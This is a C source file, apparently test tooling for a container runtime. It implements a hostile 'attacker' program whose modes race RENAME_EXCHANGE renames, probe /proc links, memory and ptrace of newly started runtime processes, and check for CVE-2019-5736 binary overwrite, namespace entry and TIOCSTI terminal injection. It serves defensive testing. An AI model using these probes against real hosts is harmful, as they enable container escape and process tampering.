// SPDX-License-Identifier: Apache-2.0
//
// The hostile program of the tests in this directory: static, so that it runs in any container.
//
//   attacker exchange A B          exchange two names for ever (renameat2(2), RENAME_EXCHANGE)
//   attacker snoop RESULT STOP     try everything on each process that appears, until STOP exists
//   attacker enter PID PROGRAM...  execute PROGRAM in the namespaces of PID, as a careless runtime would
//   attacker self                  print which file this program is
//   attacker inject                push a character into the terminal on stdin (TIOCSTI)
//   attacker socket FAMILY         open a socket of that family
//   attacker wait                  sleep

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define LINES 8192
#define HELD 512

// --- What was found: each line once ------------------------------------------------------------

static char *lines[LINES];
static int line_count;
static FILE *out;

static void __attribute__((format(printf, 1, 2)))
note(const char *format, ...)
{
	char text[600];
	va_list args;

	va_start(args, format);
	vsnprintf(text, sizeof text, format, args);
	va_end(args);
	for (char *c = text; *c; c++)
		if (*c == '\n')
			*c = ' ';
	for (int i = 0; i < line_count; i++)
		if (strcmp(lines[i], text) == 0)
			return;
	if (line_count == LINES)
		return;
	lines[line_count++] = strdup(text);
	fprintf(out, "%s\n", text);
	fflush(out);
}

// --- snoop -------------------------------------------------------------------------------------

static bool known[1 << 22];  // pids that were there when it began
static int held[HELD];       // programs and libraries that could be opened: to be written to later
static int held_count;

static void
name_of(const char *pid, char *name)
{
	char path[64];
	int fd;
	ssize_t n = 0;

	snprintf(path, sizeof path, "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		n = read(fd, name, 31);
		close(fd);
	}
	name[n > 0 ? n - 1 : 0] = '\0';
}

static bool
already_held(const struct stat *st)
{
	struct stat other;

	for (int i = 0; i < held_count; i++)
		if (fstat(held[i], &other) == 0 && other.st_ino == st->st_ino && other.st_dev == st->st_dev)
			return true;
	return false;
}

// Open what the link of /proc names; say so if it worked while the process still was the runtime's.
static void
try_link(const char *pid, const char *comm, const char *what, const char *path, int flags, bool hold)
{
	char target[300] = "", now[32];
	struct stat st;
	int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
	int error = errno;

	name_of(pid, now);
	if (strcmp(comm, now) != 0) {
		if (fd >= 0)
			close(fd);
		return;
	}
	if (fd < 0) {
		note("refused %s %s %d", what, comm, error);
		return;
	}
	fstat(fd, &st);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 0] = '\0';
	note("opened %s %s %lu:%lu %d %s", what, comm, (unsigned long)st.st_dev, (unsigned long)st.st_ino,
	     fcntl(fd, F_GET_SEALS), target);
	if (hold && S_ISREG(st.st_mode) && held_count < HELD && !already_held(&st))
		held[held_count++] = fd;
	else
		close(fd);
}

static void
try_directory(const char *pid, const char *comm, const char *what, int flags, bool hold)
{
	char path[400];
	DIR *directory;
	struct dirent *entry;

	snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
	directory = opendir(path);
	if (directory == NULL) {
		int error = errno;
		char now[32];

		name_of(pid, now);
		if (strcmp(comm, now) == 0)
			note("refused %s %s %d", what, comm, error);
		return;
	}
	while ((entry = readdir(directory)) != NULL) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "/proc/%s/%s/%s", pid, what, entry->d_name);
		try_link(pid, comm, what, path, flags, hold);
	}
	closedir(directory);
}

// What a process that is held by us has, which is what we have then.
static void
note_held(const char *pid)
{
	char comm[32], path[600], line[300];
	static const char *const places[] = {"root", "cwd"};
	struct stat own, theirs;
	struct dirent *entry;

	name_of(pid, comm);
	snprintf(path, sizeof path, "/proc/%s/status", pid);
	FILE *status = fopen(path, "r");
	while (status != NULL && fgets(line, sizeof line, status) != NULL)
		if (strncmp(line, "Uid:", 4) == 0 || strncmp(line, "Gid:", 4) == 0 || strncmp(line, "Cap", 3) == 0)
			note("held %s %s", comm, line);
	if (status != NULL)
		fclose(status);
	stat("/", &own);
	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s", pid, places[i]);
		if (stat(path, &theirs) == 0)
			note("held %s %s %s", comm, places[i],
			     own.st_ino == theirs.st_ino && own.st_dev == theirs.st_dev ? "inside" : "outside");
	}
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	DIR *directory = opendir(path);
	while (directory != NULL && (entry = readdir(directory)) != NULL) {
		snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
		ssize_t n = readlink(path, line, sizeof line - 1);
		if (n > 0) {
			line[n] = '\0';
			line[strcspn(line, ":")] = '\0';
			note("held %s fd %s", comm, line);
		}
	}
	if (directory != NULL)
		closedir(directory);
}

static void
try_ptrace(const char *pid, const char *comm)
{
	char now[32];
	long done = ptrace(PTRACE_SEIZE, atoi(pid), 0, 0);
	int error = errno;

	name_of(pid, now);
	if (strcmp(comm, now) == 0) {
		if (done == 0)
			note("opened ptrace %s", comm);
		else
			note("refused ptrace %s %d", comm, error);
	}
	if (done == 0) {
		ptrace(PTRACE_INTERRUPT, atoi(pid), 0, 0);
		if (waitpid(atoi(pid), NULL, __WALL) > 0)
			note_held(pid);
		ptrace(PTRACE_DETACH, atoi(pid), 0, 0);
	}
}

static void
try_process(const char *pid, const char *self)
{
	char comm[32], path[400];
	static const char *const files[] = {"mem", "environ", "auxv"};

	name_of(pid, comm);
	if (comm[0] == '\0' || strcmp(comm, self) == 0 || strcmp(comm, "sh") == 0)
		return;
	note("seen %s", comm);
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	try_link(pid, comm, "exe", path, O_RDONLY, true);
	try_directory(pid, comm, "fd", O_PATH, false);
	try_directory(pid, comm, "map_files", O_RDONLY, true);
	snprintf(path, sizeof path, "/proc/%s/cwd", pid);
	try_link(pid, comm, "cwd", path, O_PATH, false);
	snprintf(path, sizeof path, "/proc/%s/root", pid);
	try_link(pid, comm, "root", path, O_PATH, false);
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
		try_link(pid, comm, files[i], path, i == 0 ? O_RDWR : O_RDONLY, false);
	}
	try_ptrace(pid, comm);
}

// A program that nobody runs any more can be opened for writing: that is CVE-2019-5736.
static void
try_to_write(void)
{
	char path[64], target[300];
	struct stat st;

	for (int i = 0; i < held_count; i++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		fstat(fd, &st);
		ssize_t n = readlink(path, target, sizeof target - 1);
		target[n > 0 ? n : 0] = '\0';
		note("writable %lu:%lu %d %s", (unsigned long)st.st_dev, (unsigned long)st.st_ino, fcntl(fd, F_GET_SEALS),
		     target);
		close(fd);
	}
}

static int
snoop(const char *result, const char *stop)
{
	char self[32];
	struct dirent *entry;
	DIR *proc = opendir("/proc");

	name_of("self", self);
	while ((entry = readdir(proc)) != NULL)
		if (atoi(entry->d_name) > 0)
			known[atoi(entry->d_name)] = true;
	out = fopen(result, "w");
	if (out == NULL)
		return 1;
	note("ready");
	for (int round = 0; access(stop, F_OK) != 0; round++) {
		while (waitpid(-1, NULL, WNOHANG) > 0)
			continue;
		rewinddir(proc);
		while ((entry = readdir(proc)) != NULL)
			if (atoi(entry->d_name) > 0 && !known[atoi(entry->d_name)])
				try_process(entry->d_name, self);
		if (round % 64 == 0)
			try_to_write();
	}
	usleep(200000);  // what ran has ended
	try_to_write();
	note("end");
	return 0;
}

// --- The small ones ----------------------------------------------------------------------------

static int
enter(const char *pid, char **program)
{
	static const char *const kinds[] = {"pid", "mnt"};
	char path[64];
	int fds[2];

	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, kinds[i]);
		fds[i] = open(path, O_RDONLY | O_CLOEXEC);
	}
	for (int i = 0; i < 2; i++)
		if (setns(fds[i], 0) < 0)
			return 1;
	pid_t child = fork();
	if (child == 0) {
		execv(program[0], program);
		_exit(127);
	}
	int status = 0;
	waitpid(child, &status, 0);
	return WEXITSTATUS(status);
}

int
main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "exchange") == 0 && argc == 4)
		for (;;) {
			syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2);
			usleep(1);  // as long as a step of the victim's takes, and the victim needs a processor too
		}
	if (strcmp(what, "snoop") == 0 && argc == 4)
		return snoop(argv[2], argv[3]);
	if (strcmp(what, "enter") == 0 && argc > 3)
		return enter(argv[2], argv + 3);
	if (strcmp(what, "self") == 0) {  // which file this program is
		struct stat st;
		stat("/proc/self/exe", &st);
		printf("%lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
		return 0;
	}
	if (strcmp(what, "inject") == 0) {
		printf("%s\n", ioctl(0, TIOCSTI, "X") == 0 ? "injected" : strerror(errno));
		return 0;
	}
	if (strcmp(what, "socket") == 0 && argc == 3) {
		printf("%s\n", socket(atoi(argv[2]), SOCK_SEQPACKET, 0) >= 0 ? "opened" : strerror(errno));
		return 0;
	}
	if (strcmp(what, "wait") == 0)
		pause();
	return 2;
}
